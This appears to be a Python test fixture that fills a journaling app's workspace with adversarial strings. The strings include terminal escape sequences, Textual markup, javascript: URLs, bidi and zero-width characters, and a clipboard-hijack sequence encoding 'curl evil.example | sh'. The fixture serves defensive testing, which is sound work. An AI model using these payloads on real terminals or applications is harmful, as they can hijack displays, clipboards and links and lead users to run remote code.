"""What a stranger may put into a text, and a home that holds it in every field."""

import base64
import os
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

from learnlog.journal.drafting import NEW
from learnlog.model.fetching import FetchState
from learnlog.model.moments import to_text
from learnlog.model.post import NewPost
from learnlog.settings import find_paths
from learnlog.workspace import Workspace

_CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()

ACTING = {
    "colour": "\x1b[38;2;1;2;3m%",
    "erase": "\x1b[2J%",
    "place": "\x1b[98;7H%",
    "report": "\x1b[6n%",
    "mode": "\x1b[?1047h%",
    "reset": "\x1bc%",
    "title": "\x1b]0;%\x07",
    "endless": "% \x1b]0;never ends",
    "hyperlink": "\x1b]8;;https://evil.example/%\x1b\\%\x1b]8;;\x1b\\",
    "clipboard": f"\x1b]52;c;{_CLIPBOARD}\x07%",
    "device": "\x1bP+q%\x1b\\",
    "application": "\x1b_G%\x1b\\",
    "private": "\x1b^%\x1b\\",
    "start": "\x1bX%\x1b\\",
    "inside-out": "\x1b\x1b]0;x\x07[2J%",
    "c1-csi": "\x9b2J%",
    "c1-osc": "\x9d0;%\x9c",
    "c1-device": "\x90q%\x9c",
    "c1-next-line": "\x85%",
    "bell": "\x07%",
    "backspace": "good\x08\x08\x08\x08%",
    "return": "good\r%",
    "shift": "\x0e%",
    "delete": "\x7f%",
    "override": "\u202e%\u202c",
    "isolate": "\u2067%\u2069",
    "tags": "\U000e0041\U000e0042%",
    "nothing": "%\u200b\ufeff\u2060",
}
"""Texts that act on a terminal; % is where the marker stands."""

MARKUP = {
    "click": "[@click=app.quit]%[/]",
    "click-bell": "[@click='app.bell']%[/]",
    "link": "[link=file:///etc/passwd]%[/link]",
    "bold": "[bold]%[/bold]",
    "paint": "[#010203 on red]%",
    "end": "[/]%[/bold]",
    "unclosed": "[@click=%",
}
"""Texts that act in Textual; they have to stand on the screen as they are."""

HEAPS = {
    "accents": "Z" + "\u0301" * 300 + "%",
    "thai": "\u0e01" + "\u0e47" * 300 + "%",
    "joined": "a" + "\u200d" * 50 + "%",
    "wide": "漢" * 40 + "%",
}
"""Texts that only weigh much."""


def attacks() -> Iterator[tuple[str, str, str]]:
    """Yield each attack: a name, its marker, and the text with the marker in it."""
    for number, (name, text) in enumerate([*MARKUP.items(), *ACTING.items(), *HEAPS.items()]):
        marker = f"mk{number:02}x"
        yield name, marker, text.replace("%", marker)


def everything() -> str:
    """Return all attacks in one text, on lines of their own."""
    return "\n\n".join(text for _, _, text in attacks())


def quoted(text: str) -> str:
    """Return `text` as YAML that any tool might have written: quoted, what cannot be seen as escapes."""
    letters = (c if " " <= c <= "~" and c not in '"\\' else f"\\U{ord(c):08x}" for c in text)
    return f'"{"".join(letters)}"'


def _file(vault: Path, name: bytes, values: dict[str, str], body: str, *, raw: bool) -> None:
    shown = (lambda text: text) if raw else quoted
    lines = [f"{key}: {shown(value)}" for key, value in values.items()]
    lines += [f"unknown: {shown(values['title'])}", f"{shown(values['title'])}: a key"]
    text = "\n".join(["---", *lines, "---", "", body, ""])
    path = vault / os.fsdecode(name[:200] + b".md")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8", errors="replace", newline="")


def _safe_name(text: str) -> bytes:
    return text.replace("/", "\u2215").replace("\0", "").encode("utf-8", "surrogateescape")[:120]


def hostile_home(home: Path, now: datetime) -> Workspace:
    """Fill `home` with attacks in every field of everything, by files, feeds and rows of others."""
    workspace = Workspace(find_paths(str(home)), clock=lambda: now)
    vault = workspace.vault.root
    posts = []
    for number, (name, _, text) in enumerate(attacks()):
        moment = now - timedelta(minutes=number + 3)
        body = f"{text}\n\n# {text}\n\n[{text}](javascript:alert)\n\n> {text}\n\n```\n{text}\n```\n\n[[{text}]] #{text}"
        common = {"title": text, "created": to_text(moment), "tags": text, "themes": f"theme-{number}"}
        entry = {
            **common,
            "kind": "question" if number % 3 else text,
            "visibility": text,
            "people": f"p{number}",
        }
        for raw in (False, True):
            id = f"e{number}raw" if raw else f"e{number}"
            values = {"id": id, **entry, "entries": f"e{number}"}
            _file(vault, b"journal/2026/%s" % id.encode(), values, body, raw=raw)
        odd = {"title": f"odd {text}", "created": to_text(moment)}
        _file(vault, b"journal/2026/odd-%d-" % number + _safe_name(text), odd, body, raw=False)
        _file(vault, b"journal/" + _safe_name(text) + b"/odd-folder-%d" % number, odd, body, raw=False)
        theme = {
            "id": f"theme-{number}",
            "name": text,
            "question": text,
            "aliases": text,
            "keywords": text,
            **common,
        }
        _file(vault, b"themes/theme-%d" % number, theme, body, raw=False)
        kept = {
            "why": text,
            "author": text,
            "url": f"javascript:{text}",
            "person": f"p{number}",
            "kept": to_text(moment),
        }
        _file(vault, b"kept/kept-%d" % number, {"id": f"k{number}", **common, **kept}, body, raw=False)
        _person(vault, number, text, body)
        posts.append(_post(number, name, text, moment))
    for number, post in enumerate(posts):
        key = f"https://evil.example/{number}"
        state = FetchState(
            checked=now, title=post.title, error=post.title, site=post.title, due=now + timedelta(days=9)
        )
        workspace.library.channels.commit(key, [post], state)
    workspace.sync.scan()
    _spoil(workspace, posts)
    workspace.drafts.save(NEW, "\n".join(["---", f"title: {quoted(everything())}", "---", "", everything()]))
    return workspace


def _person(vault: Path, number: int, text: str, body: str) -> None:
    channel = f"\n  - {{kind: feed, key: 'https://evil.example/{number}', title: {quoted(text)}}}"
    lines = [f"id: p{number}", f"name: {quoted(text)}", f"role: {quoted(text)}", f"why: {quoted(text)}"]
    lines += [f"circles: [{quoted(text)}]", f"themes: [theme-{number}]", f"channels:{channel}"]
    path = vault / "people" / f"p{number}.md"
    path.write_text("\n".join(["---", *lines, "---", "", body]), encoding="utf-8", errors="replace")


def _post(number: int, name: str, text: str, moment: datetime) -> NewPost:
    html = f"<h2>{text}</h2><p>{text} <a href='javascript:x'>{text}</a> <a href='https://x.example/{name}'>{text}</a>"
    html += f"<img src='file:///etc/passwd' alt='{text}'></p><pre>{text}</pre><table><tr><td>{text}</td></tr></table>"
    return NewPost(
        guid=f"g{number}",
        url=f"https://evil.example/{number}/{name}",
        title=text,
        author=text,
        html=html,
        text=f"{text} everywhere",
        published=moment,
        tags=(text,),
        language=text,
    )


def _spoil(workspace: Workspace, posts: list[NewPost]) -> None:
    """Write the posts into the library as they are, as if no door had been there when they came in."""
    database = workspace.library._connections.db
    for number, post in enumerate(posts):
        database.run(
            "UPDATE post SET title = ?, author = ?, excerpt = ?, url = ? WHERE guid = ?",
            (post.title, post.author, post.text, f"javascript:{post.title}", f"g{number}"),
        )
        database.run(
            "UPDATE post_new SET html = ?, text = ?, language = ? WHERE row = (SELECT row FROM post WHERE guid = ?)",
            (post.html, post.text, post.language, f"g{number}"),
        )
